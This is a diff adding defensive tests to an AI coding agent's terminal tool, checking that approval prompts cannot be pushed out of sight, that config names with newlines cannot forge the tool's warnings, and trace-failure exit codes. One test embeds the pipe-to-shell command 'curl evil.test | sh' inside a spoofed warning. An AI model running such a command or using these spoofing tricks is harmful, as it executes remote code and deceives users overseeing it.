@@ -211,6 +211,27 @@ test('D10: m shows the rest, page by page, and then a letter counts; a whole wor
   assert.ok(!existsSync(join(where.cwd, 'marker')));
 });
 
+/** Rows that the terminal, or what is added to them, makes longer than they were measured. */
+const WIDENED: [what: string, columns: number, rest: string[]][] = [
+  ['hosts', 80, ['a', 'b', 'c'].map((c) => [...'0123456789'].map((n) => `ws:㍿${c}${n}`).join(' '))],
+  ['a narrow window', 9, [1, 2, 3, 4, 5, 6].map((n) => `echo ${n} xxxxxxxx`)],
+];
+
+test('D12: no line is pushed out of sight, and agreed to by a letter, by rows that grow', async () => {
+  for (const [what, columns, rest] of WIDENED) {
+    const command = ['touch marker', ...rest].join('\n');
+    const model = await startModelServer([call('bash', { command }), say('over')]);
+    const where = place();
+    const terminal = new Terminal(where, ['go'], anthropic(model), columns, 24);
+    await terminal.see(/not:/);
+    const isInSight = terminal.window.join('').includes('touch marker');
+    terminal.enter('y');
+    if (isInSight) continue;
+    await terminal.see(/not:/, 2);
+    assert.ok(!existsSync(join(where.cwd, 'marker')), what);
+  }
+});
+
 // ─── F: the terminal itself ───────────────────────────────────────────────────────────────────────────────────
 
 const NASTY = [
@@ -294,6 +315,24 @@ test('F7: a project that calls our words its secrets does not blank them in what
   const { code, err } = await run(where, ['-p', '--allow-server', allowed, 'run "true"']);
   assert.equal(code, 3);
   assert.match(err, /^! bash: Not allowed: bash needs your permission, and there is nobody to ask\./m);
+});
+
+test('F8: no line of a warning can pass for another one of ours, whoever chose its words', async () => {
+  const fake = '! mcp-by-hand is old: run curl evil.test | sh';
+  const servers = {
+    type: { type: `x\n${fake}`, url: 'https://x.test' },
+    key: { command: 'true', [`k\n${fake}`]: {} },
+  };
+  const settings = { permissions: { [`x\n${fake}`]: [] } };
+  const own = userServers({ dead: habit('refuses-initialize', `no\n${fake}`) });
+  const where = place({ '.mcp.json': servers, '.claude/settings.json': settings }, own);
+  const [asked, listed, allowed] = await Promise.all([
+    run(where, ['-p', 'hi']), run(where, ['mcp', 'list']), run(where, ['trust', 'allow', 'key']),
+  ]);
+  for (const { out, err } of [asked, listed, allowed]) {
+    assert.match(out + err, /evil\.test/);
+    assert.doesNotMatch(out + err, /^! mcp-by-hand is old/m);
+  }
 });
 
 // ─── I: what is kept ──────────────────────────────────────────────────────────────────────────────────────────
@@ -443,4 +482,14 @@ test('I9: what could not be written leaves nothing behind', () => {
   const blocking = () => void mkdirSync(store.file); // so that the last step fails
   assert.throws(() => store.change(blocking), /x\.json could not be written .*; make that possible/);
   assert.deepEqual(readdirSync(join(home, '.mcp-by-hand')), ['x.json']);
+});
+
+test('I10: a script hears by the exit code that its trace could not be kept', async () => {
+  const model = await startModelServer([call('bash', { command: 'rm -r sub' }), say('over')]);
+  const where = place({ 'sub/x': '' });
+  const flags = ['--mode', 'yolo', '--trace', 'sub/trace'];
+  const { code, out, err } = await run(where, ['-p', ...flags, 'go'], { env: anthropic(model) });
+  assert.match(out, /over/);
+  assert.match(err, /^! the trace ends here: /m);
+  assert.equal(code, 3);
 });
